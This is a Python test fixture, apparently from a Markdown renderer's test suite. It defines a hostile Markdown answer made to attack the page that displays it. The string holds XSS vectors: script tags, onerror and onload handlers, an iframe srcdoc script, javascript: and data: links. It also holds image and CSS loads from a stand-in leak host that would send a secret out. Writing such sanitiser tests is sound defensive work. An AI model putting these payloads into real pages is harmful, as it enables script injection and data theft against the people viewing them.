"""Markdown that attacks the page that shows it."""

from __future__ import annotations

#: An answer with raw HTML, scripts and remote resources.
HOSTILE = """\
**bold** <script>window.attacked = 'script'</script>
<img src=x onerror="window.attacked = 'onerror'"> <svg onload="window.attacked = 'svg'"></svg>

<iframe srcdoc="<script>parent.attacked = 'iframe'</script>"></iframe>

<script>window.attacked = 'block'</script>

![seen](https://leak.example/image.png?secret) <img src="https://leak.example/raw.png">
![again][image] [link](javascript:window.attacked='link') [data](data:text/html,x) [out](/logout)

<style>@import url(https://leak.example/style.css);</style>

| a | b |
|---|---|
| cell | <img src=x onerror="window.attacked = 'table'"> |

```html
<img src=x> &amp;
```

$x_1 < \\href{javascript:window.attacked='math'}{y}$ the end

[image]: https://leak.example/reference.png
"""
